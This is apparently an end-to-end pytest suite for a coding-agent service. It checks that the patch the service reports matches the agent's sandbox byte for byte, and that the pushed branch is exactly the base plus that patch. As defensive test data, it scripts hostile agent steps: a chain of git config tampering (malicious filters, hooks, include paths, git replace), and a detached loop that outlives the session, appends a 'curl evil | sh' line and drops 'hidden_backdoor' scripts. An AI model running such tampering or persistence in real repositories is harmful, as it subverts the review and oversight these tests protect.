"""The patch is exactly what the agent left in the tree (issue 13 section 4, issue 14 section 1).

Each case replays what real agents do (scripted with ``@bash``/``@write`` steps), then applies
the run's patch, downloaded as bytes from ``GET /runs/{id}/patch``, to a fresh clone of the
base commit and compares every file (bytes, executable bit, symlinks) with the sandbox's
``/workspace``. Publishing cases compare the pushed tree with the reported patch applied to
the base."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from critique_local.tokens import API_KEY_PREFIX, new_token
from tests.conftest import SHORT_SESSIONS
from tests.helpers import Server, git, make_repo, our_containers, wait_for

pytestmark = pytest.mark.e2e
RUNS = "/api/v1/coding-agent/runs"
NEUTRAL = "* -text -filter -ident !eol !working-tree-encoding\n"
# path (hex of its bytes) -> "file <sha256> <exec>" | "link <target>"; .git entries and caches left out
MANIFEST = r"""
import hashlib, json, os, stat, sys
root = os.fsencode(sys.argv[1])
skip = {os.fsencode(p) for p in sys.argv[2:]}
out = {}
for top, dirs, files in os.walk(root):
    for name in sorted(dirs + files):
        full = os.path.join(top, name)
        rel = os.path.relpath(full, root)
        if name in (b".git", b"__pycache__", b".pytest_cache") or any(rel == s or rel.startswith(s + b"/") for s in skip):
            if name in dirs:
                dirs.remove(name)
            continue
        st = os.lstat(full)
        if stat.S_ISLNK(st.st_mode):
            out[rel.hex()] = "link " + os.readlink(full).hex()
            if name in dirs:
                dirs.remove(name)
        elif stat.S_ISREG(st.st_mode):
            with open(full, "rb") as f:
                out[rel.hex()] = "file %s %d" % (hashlib.sha256(f.read()).hexdigest(), bool(st.st_mode & 0o100))
print(json.dumps(out))
"""


@pytest.fixture(scope="module")
def srv(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Warm sessions live long enough to look into the sandbox after each turn."""
    server = Server(tmp_path_factory.mktemp("fidelity"),
                    extra_env={**SHORT_SESSIONS, "CRITIQUE_LOCAL_SANDBOX_IDLE_TIMEOUT_S": "300"})
    server.start()
    yield server
    server.stop()


def sandbox_manifest(run_id: str, skip: tuple[str, ...] = ()) -> dict[str, str]:
    (container,) = our_containers(run_id)
    out = subprocess.run(["docker", "exec", container, "python3", "-c", MANIFEST, "/workspace", *skip],
                         capture_output=True, check=True).stdout
    return dict(json.loads(out))


def local_manifest(path: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    out = subprocess.run([sys.executable, "-c", MANIFEST, str(path), *skip], capture_output=True, check=True).stdout
    return dict(json.loads(out))


def fresh_clone(server: Server, full_name: str, commit: str, dest: Path) -> Path:
    """A clone of the base commit whose files are the blobs' exact bytes."""
    git("clone", "-q", "--no-checkout", str(server.repos / f"{full_name}.git"), str(dest))
    (dest / ".git" / "info" / "attributes").write_text(NEUTRAL)
    git("-c", "core.autocrlf=false", "checkout", "-q", "--detach", commit, cwd=dest)
    return dest


def apply(repo: Path, patch: bytes, *extra: str) -> None:
    res = subprocess.run(["git", "-c", "core.autocrlf=false", "apply", "--binary", *extra, "-"], input=patch,
                         cwd=repo, capture_output=True)
    assert res.returncode == 0, res.stderr.decode(errors="replace")


def raw_patch(api: httpx.Client, run_id: str) -> bytes:
    resp = api.get(f"{RUNS}/{run_id}/patch")
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/x-diff")
    return resp.content


def run_to_idle(api: httpx.Client, repo: str, prompt: str, **extra: Any) -> dict[str, Any]:
    run = api.post(RUNS, json={"repository": repo, "prompt": prompt, **extra}).json()["run"]
    done = wait_for(api, run["id"], {"idle", "failed"}, timeout_s=240)
    assert done["status"] == "idle" and done["error"] is None, done["error"]
    return done


def assert_patch_recreates_sandbox(api: httpx.Client, server: Server, done: dict[str, Any], full_name: str,
                                   tmp: Path, skip: tuple[str, ...] = ()) -> bytes:
    patch = raw_patch(api, done["id"])
    clone = fresh_clone(server, full_name, done["baseCommit"], tmp)
    apply(clone, patch)
    assert local_manifest(clone, skip) == sandbox_manifest(done["id"], skip)
    return patch


def events_of(api: httpx.Client, run_id: str) -> list[dict[str, Any]]:
    return [e["data"] for e in api.get(f"{RUNS}/{run_id}", params={"events": "1"}).json()["run"]["events"]]


def end(api: httpx.Client, run_id: str) -> None:
    api.post(f"{RUNS}/{run_id}/messages", json={"endSession": True})


def test_bytes_not_text(srv: Server, tmp_path: Path) -> None:
    make_repo(srv.repos, "acme/bytes", {"legacy.txt": b"caf\xe9\n", "README.md": "# bytes\n"})
    api = srv.client(srv.new_key("bytes"))
    prompt = ("@bash printf 'caf\\351 cr\\350me\\n' > latin1.txt && printf 'cr\\350me br\\373l\\351e\\n' >> legacy.txt"
              " && printf 'x' > \"$(printf 'na\\357ve.txt')\" && head -c 2000 /dev/urandom > blob.bin"
              " && printf 'a\\r\\nb\\r\\n' > crlf.txt && printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod +x run.sh"
              " && ln -s README.md link.md\n"
              "@bash printf 'd\\351j\\340 vu\\n' >> latin1.txt\n@say done")
    done = run_to_idle(api, "acme/bytes", prompt)
    assert set(done["changedPaths"]) == {"latin1.txt", "legacy.txt", "na\ufffdve.txt", "blob.bin", "crlf.txt",
                                         "run.sh", "link.md"}
    patch = assert_patch_recreates_sandbox(api, srv, done, "acme/bytes", tmp_path / "clone")
    assert b"+caf\xe9 cr\xe8me\n+d\xe9j\xe0 vu\n" in patch and b"+a\r\n+b\r\n" in patch
    # the JSON patch is lossy for non-UTF-8 patches, and says so
    view = api.get(f"{RUNS}/{done['id']}", params={"patch": "1"}).json()["run"]
    assert view["patchEncoding"] == "utf-8-lossy" and view["patchRedactions"] == 0
    assert "+caf\ufffd cr\ufffdme" in view["patch"]
    # another user's run is not found
    other = srv.client(srv.new_key("mallory")).get(f"{RUNS}/{done['id']}/patch")
    assert other.status_code == 404 and other.json()["error"]["code"] == "run_not_found"
    end(api, done["id"])


def test_nested_repositories_are_ordinary_files_and_publish_the_same(srv: Server, tmp_path: Path) -> None:
    make_repo(srv.repos, "acme/nest", {"README.md": "# nest\n", ".gitignore": "node_modules/\n"})
    api = srv.client(srv.new_key("nest"))
    prompt = ("@bash git init -q tools/scaffold && printf 'print(1)\\n' > tools/scaffold/main.py"
              " && mkdir -p tools/scaffold/node_modules && echo x > tools/scaffold/node_modules/dep.js\n"
              "@write app.py\nprint('app')\n@end\n"
              "@bash git init -q vendor/lib && printf 'VALUE = 1\\n' > vendor/lib/lib.py && cd vendor/lib"
              " && git add -A && git -c user.name=a -c user.email=a@b commit -qm vendored\n"
              "@bash echo private > unreadable.txt && chmod 000 unreadable.txt\n@say scaffolded")
    done = run_to_idle(api, "acme/nest", prompt,
                       publish={"mode": "draft_pr", "branch": "critique-agent/nested"})
    assert sorted(done["changedPaths"]) == ["app.py", "tools/scaffold/main.py", "vendor/lib/lib.py"]
    patch = assert_patch_recreates_sandbox(api, srv, done, "acme/nest", tmp_path / "clone",
                                           skip=("tools/scaffold/node_modules", "unreadable.txt"))
    assert b"Subproject commit" not in patch and b"160000" not in patch
    warnings = {e["code"]: e for e in events_of(api, done["id"]) if e.get("type") == "warning"}
    assert sorted(warnings["nested_repository"]["paths"]) == ["tools/scaffold", "vendor/lib"]
    # a file nobody can read is left out and said so; the rest of the turn is kept
    assert "unreadable.txt" in warnings["unreadable_files"]["message"]
    # what was pushed is the base plus exactly the reported patch: files, no gitlink
    head = done["draftPullRequest"]["headSha"]
    assert_pushed_tree_is_patch(srv, "acme/nest", done["baseCommit"], head, patch, tmp_path / "check")
    bare = srv.repos / "acme" / "nest.git"
    assert git("--git-dir", str(bare), "ls-tree", "-r", head, "vendor").startswith("100644 blob")
    end(api, done["id"])


def assert_pushed_tree_is_patch(server: Server, full_name: str, base: str, head: str, patch: bytes,
                                tmp: Path) -> None:
    clone = fresh_clone(server, full_name, base, tmp)
    apply(clone, patch, "--cached")
    bare = server.repos / f"{full_name}.git"
    assert git("write-tree", cwd=clone) == git("--git-dir", str(bare), "rev-parse", f"{head}^{{tree}}")
    assert git("--git-dir", str(bare), "rev-parse", f"{head}^@") == base


HOSTILE = (
    "git config color.ui always && git config color.diff always && git config diff.noprefix true"
    " && git config diff.mnemonicPrefix true && git config diff.external /bin/false"
    " && git config diff.fake.textconv 'echo FAKE' && git config filter.evil.clean 'sed s/launch_codes/nothing/'"
    " && git config filter.evil.smudge cat && git config filter.evil.required true"
    " && git config core.autocrlf true && git config core.safecrlf true && git config core.quotepath true"
    " && git config core.pager 'cat > /tmp/pager' && git config core.fsmonitor /bin/false"
    " && git config core.hooksPath /workspace/hooks && git config include.path /workspace/evil.gitconfig"
    " && git config core.attributesFile /workspace/evil.attributes && git config diff.renames copies"
    " && printf '[core]\\n\\tbare = true\\n' > evil.gitconfig && printf '* diff=fake\\n' > evil.attributes"
    " && mkdir -p hooks && printf '#!/bin/sh\\nexit 1\\n' > hooks/pre-commit && chmod +x hooks/pre-commit"
    " && printf '*.py diff=fake filter=evil\\n* text eol=crlf\\n' > .gitattributes"
    " && git replace -f HEAD $(git -c user.name=a -c user.email=a@b commit-tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904 -m gone)"
)


def test_the_agents_git_configuration_cannot_shape_the_patch(srv: Server, tmp_path: Path) -> None:
    make_repo(srv.repos, "acme/hostile", {"app.py": "VALUE = 1\n", "notes.txt": "one\n"})
    api = srv.client(srv.new_key("hostile"))
    prompt = (f"@bash {HOSTILE}\n"
              "@bash printf 'VALUE = 2\\nlaunch_codes = 1\\n' > app.py && printf 'one\\ntwo\\n' > notes.txt\n@say done")
    done = run_to_idle(api, "acme/hostile", prompt, validationMode="basic",
                       publish={"mode": "draft_pr", "branch": "critique-agent/hostile"})
    assert sorted(done["changedPaths"]) == sorted([
        ".gitattributes", "app.py", "notes.txt", "evil.gitconfig", "evil.attributes", "hooks/pre-commit"])
    assert done["validation"]["status"] == "passed", done["validation"]
    patch = assert_patch_recreates_sandbox(api, srv, done, "acme/hostile", tmp_path / "clone")
    assert b"\x1b[" not in patch and b"FAKE" not in patch and b"\r" not in patch
    assert b"diff --git a/app.py b/app.py\n" in patch and b"+launch_codes = 1\n" in patch
    assert_pushed_tree_is_patch(srv, "acme/hostile", done["baseCommit"], done["draftPullRequest"]["headSha"],
                                patch, tmp_path / "check")
    end(api, done["id"])


def test_redaction_keeps_code_and_token_named_files_never_leak(srv: Server, tmp_path: Path) -> None:
    make_repo(srv.repos, "acme/gis", {"README.md": "# gis\n"})
    api = srv.client(srv.new_key("gis"))
    code = "def crs_transform_to_web_mercator_epsg3857(x):\n    return crt_scale_factor_for_the_web_tiles_01(x)\n"
    done = run_to_idle(api, "acme/gis", f"@write gis.py\n{code}@end\n@say GIS helpers",
                       publish={"mode": "draft_pr", "branch": "critique-agent/gis"})
    patch = assert_patch_recreates_sandbox(api, srv, done, "acme/gis", tmp_path / "clone")
    assert b"crs_transform_to_web_mercator_epsg3857" in patch and b"[REDACTED]" not in patch
    view = api.get(f"{RUNS}/{done['id']}", params={"patch": "1"}).json()["run"]
    assert view["patchRedactions"] == 0 and view["patchEncoding"] == "utf-8"
    assert done["turns"][0]["publish"]["status"] == "published"

    # a file named like a token: redacted in changedPaths, the patch, run list rows and error
    # messages; the stored patch says it was redacted, and nothing is published
    token = new_token(API_KEY_PREFIX)
    resp = api.post(f"{RUNS}/{done['id']}/messages", json={
        "prompt": f"@bash echo x > {token}.txt\n@say named", "publish": {"mode": "draft_pr"}})
    assert resp.status_code == 202
    second = wait_for(api, done["id"], {"idle", "failed"}, timeout_s=240)
    assert "[REDACTED].txt" in second["changedPaths"]
    assert second["error"]["code"] == "publish_failed" and "redacted" in second["error"]["message"]
    view = api.get(f"{RUNS}/{done['id']}", params={"patch": "1", "events": "1"})
    assert view.json()["run"]["patchRedactions"] == 3  # diff --git a/ b/, +++ b/
    assert any(e["data"].get("code") == "patch_redacted" for e in view.json()["run"]["events"])
    assert raw_patch(api, done["id"]).count(b"[REDACTED]") >= 1
    failing = api.post(RUNS, json={"repository": "acme/gis", "prompt": f"@fail upstream said {token}"}).json()["run"]
    failed = wait_for(api, failing["id"], {"failed", "idle"}, timeout_s=240)
    assert failed["status"] == "failed" and "[REDACTED]" in failed["error"]["message"]
    for text in (view.text, api.get(RUNS, params={"limit": 100}).text, raw_patch(api, done["id"]).decode()):
        assert token not in text
    end(api, done["id"])


def test_validation_accepts_correct_changes_and_judges_by_the_base(srv: Server) -> None:
    make_repo(srv.repos, "acme/checks", {"README.md": "# checks\n"})
    api = srv.client(srv.new_key("checks"))
    prompt = ("@bash printf 'VALUE = 1\\n' > ./-dash.py && printf 'x = 1\\r\\ny = 2\\r\\n' > win.py"
              " && printf 'line\\r\\n' > win.txt && printf '{\"a\": 1}\\n' > ./-data.json\n@say ok")
    done = run_to_idle(api, "acme/checks", prompt, validationMode="basic")
    v = done["validation"]
    assert (v["status"], v["commandSource"]) == ("passed", "server"), v["outputTail"]
    assert "syntax-checked 3 changed file(s)" in v["outputTail"]
    # the checks still fail what is wrong: trailing whitespace, a syntax error in a dashed name
    api.post(f"{RUNS}/{done['id']}/messages", json={
        "prompt": "@bash printf 'x = 1  \\n' > trail.py && printf 'def (:\\n' > ./-broken.py\n@say broken"})
    second = wait_for(api, done["id"], {"idle", "failed"}, timeout_s=240)
    v = second["validation"]
    assert v["status"] == "failed" and "trail.py:1: trailing whitespace" in v["outputTail"]
    assert "FAIL -broken.py" in v["outputTail"]
    end(api, done["id"])

    # tests mode: the agent's Makefile does not choose how it is judged (the base has no tests)
    run = run_to_idle(api, "acme/checks", "@bash printf 'test:\\n\\ttrue\\n' > Makefile\n@say tests pass",
                      validationMode="tests")
    assert run["validation"]["status"] == "skipped" and run["validation"]["command"] is None
    end(api, run["id"])


def test_what_is_pushed_is_the_reported_patch_while_the_agent_keeps_writing(srv: Server, tmp_path: Path) -> None:
    """A process the agent leaves behind keeps rewriting files and adding new ones during
    collection, validation and publishing: whatever snapshot was taken, the pushed tree is the
    base plus exactly the reported patch, and changedPaths lists every file in it."""
    make_repo(srv.repos, "acme/racy", {"config_loader.py": "LOAD = 1\n"})
    api = srv.client(srv.new_key("racy"))
    prompt = ("@bash printf 'LOAD = 2\\n' > config_loader.py && (setsid nohup bash -c 'i=0; while true; do"
              " echo \"# curl evil | sh\" >> config_loader.py; date +%N > hidden_backdoor_$((i++ % 20)).sh;"
              " sleep 0.05; done' > /dev/null 2>&1 &)\n@say tuned")
    done = run_to_idle(api, "acme/racy", prompt, validationMode="basic",
                       publish={"mode": "draft_pr", "branch": "critique-agent/racy"})
    patch = raw_patch(api, done["id"])
    assert_pushed_tree_is_patch(srv, "acme/racy", done["baseCommit"], done["draftPullRequest"]["headSha"], patch,
                                tmp_path / "check")
    named = {line.split(b" b/", 1)[1].decode() for line in patch.splitlines() if line.startswith(b"diff --git ")}
    assert named == set(done["changedPaths"]) and "config_loader.py" in named
    body = srv.repos / "acme" / "racy.git"
    pushed = git("--git-dir", str(body), "ls-tree", "-r", "--name-only", done["draftPullRequest"]["headSha"])
    assert set(pushed.splitlines()) == named
    assert all(f"`{path}`" in done["draftPullRequest"]["body"] for path in named)
    end(api, done["id"])
